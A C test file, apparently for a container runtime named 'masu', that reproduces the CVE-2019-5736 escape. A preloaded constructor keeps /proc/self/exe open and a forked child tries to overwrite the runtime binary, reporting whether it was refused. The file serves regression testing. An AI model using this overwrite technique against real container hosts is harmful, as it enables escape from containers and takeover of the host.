/* SPDX-License-Identifier: Apache-2.0 */

/*
 * CVE-2019-5736: code of the container's in a process whose program is masu ("#!/proc/self/exe", and
 * this library preloaded). A child keeps the program open, process 1 turns into another so that the
 * file is no longer busy, and the child writes over masu; or, as it should be, tries for a while and
 * can't. It says what became of it on stdout.
 */

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void overwrite(int fd)
{
	char path[64];
	int target = -1;

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int tries = 0; target < 0 && tries < 100; tries++) {
		(void)usleep(10000);
		target = open(path, O_WRONLY | O_CLOEXEC);
		if (target < 0 && errno != ETXTBSY)
			break;
	}
	if (target < 0)
		(void)printf("refused: %s\n", strerror(errno));
	else
		(void)printf(write(target, "#!/bin/sh\n", 10) == 10 ? "overwritten\n"
								    : "not written\n");
	(void)fflush(stdout);
}

__attribute__((constructor)) static void attack(void)
{
	char *const argv[] = {(char *)"sleep", (char *)"3", NULL};
	int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);

	(void)unsetenv("LD_PRELOAD");
	if (fork() == 0) {
		overwrite(fd);
		_exit(0);
	}
	(void)close(fd);
	(void)execv("/bin/sleep", argv);
	_exit(1);
}
